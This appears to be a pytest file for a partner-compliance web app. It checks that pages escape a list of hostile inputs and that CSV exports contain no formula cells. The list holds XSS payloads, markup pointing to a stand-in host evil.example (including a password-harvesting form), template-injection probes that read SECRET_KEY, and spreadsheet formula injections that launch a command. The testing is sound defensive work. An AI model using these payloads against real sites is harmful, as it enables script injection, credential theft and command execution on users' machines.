"""Texts made to be run, shown as what they are: on the pages of the vendor, of the partner, and in files."""

import csv
import io

import pytest
from sqlalchemy import select

from app.accounts.queries import actor_by_email
from app.kernel.clock import now
from app.partners.models import Partner, RosterCategory
from app.partners.queries import load, program
from app.partners.services import add_covered_person
from app.remediation import services as remediation
from app.remediation.models import InfractionCategory, InfractionSource, RemediationCase, Severity, StepKind
from app.remediation.queries import load_case, steps
from app.transactions import reading, transaction
from tests.ground.furnished import Furnished

pytestmark = [pytest.mark.one_engine, pytest.mark.xdist_group("routes")]

HOSTILE = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<!--<script>-->alert(1)//",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %n",
    "=1+1",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "O'Brien & Söhne <GmbH>",
    "Ünïcödé 👩‍👩‍👧 🏴‍☠️",
    "شركة الخليج للتقنيات",
    "株式会社さくらデジタル",
    "भारत टेक्नोलॉजीज़",
    "a" * 180,
]


def write(furnished: Furnished) -> tuple[str, str]:
    """Every hostile text as a person's name, an infraction's words, a note, an evidence statement. The case's and the step's address."""
    at = now()
    with furnished.app.app_context():
        contact, analyst = (
            actor_by_email(reading(), one, via="test") for one in ("anke@kestrel.example", "sam@aldermoor.example")
        )
        with transaction() as session:
            partner = load(session, "P-1003", by=analyst)
            case = load_case(session, _case_number(session), by=analyst)
            for place, text in enumerate(HOSTILE):
                add_covered_person(
                    session,
                    partner,
                    text,
                    f"hostile{place}@kestrel.example",
                    RosterCategory.SALES,
                    joined_on=at.date(),
                    by=contact,
                    at=at,
                )
                remediation.record_infraction(
                    session,
                    partner,
                    program(session, "CLOUD"),
                    category=InfractionCategory.MARKETING_FUNDS,
                    severity=Severity.MINOR,
                    source=InfractionSource.CLAIMS_REVIEW,
                    rule=text[:200],
                    summary=f"{text} was found in a claim",
                    internal_details=text,
                    occurred_on=at.date(),
                    discovered_on=at.date(),
                    by=analyst,
                    at=at,
                )
                remediation.write_note(session, case, text, by=analyst, at=at)
            step = next(one for one in steps(session, case.id) if one.kind is StepKind.CORRECTIVE_ACTION)
            remediation.submit_evidence(
                session, case, step, statement="\n\n".join(HOSTILE), files=(), effective_on=at.date(), by=contact, at=at
            )
            return f"/cases/{case.number}", f"/cases/{case.number}/steps/{step.id}"


def _case_number(session) -> str:
    return session.scalars(select(RemediationCase.number).join(Partner).where(Partner.number == "P-1003")).one()


def test_hostile_texts_are_shown_as_what_they_are(furnished: Furnished) -> None:
    case_address, step_address = write(furnished)
    seen = set()
    for address, paths in {
        "anke@kestrel.example": ["/roster", case_address, step_address],
        "sam@aldermoor.example": [
            "/partners/P-1003",
            "/infractions",
            "/infractions?partner=P-1003",
            case_address,
            step_address,
            "/assignments?partner=P-1003",
        ],
        "ines@aldermoor.example": ["/partners/P-1003", "/partners/P-1003/assignments/new", step_address],
        "oskar@aldermoor.example": ["/audit"],
        "ruth@aldermoor.example": ["/people?search=hostile"],
    }.items():
        client = furnished.client(address)
        for path in paths:
            answer = client.get(path)  # the client judges the page: no inline code, no dangling reference
            assert answer.status_code == 200, path
            raw = answer.get_data(as_text=True)
            assert not [one for one in HOSTILE if "<" in one and one in raw], path
            assert furnished.settings.secret_key not in raw
            text = answer.text
            seen |= {one for one in HOSTILE if " ".join(one.split()) in text}
    assert seen == set(HOSTILE)


def test_no_cell_of_a_file_is_a_formula(furnished: Furnished) -> None:
    write(furnished)
    files = {
        "oskar@aldermoor.example": ["/audit.csv"],
        "hana@aldermoor.example": ["/partners/P-1003/incentives.csv"],
        "uta@kestrel.example": ["/incentives/own.csv"],
    }
    for address, paths in files.items():
        for path in paths:
            text = furnished.client(address).get(path, buffered=True).get_data().decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text)))
            assert len(rows) > 1
            bad = [
                cell
                for row in rows
                for cell in row
                if cell[:1] in ("=", "+", "@", "\t", "\r")
                or (cell[:1] == "-" and not cell[1:].replace(".", "").isdigit())
            ]
            assert not bad, f"{path}: {bad[:3]}"
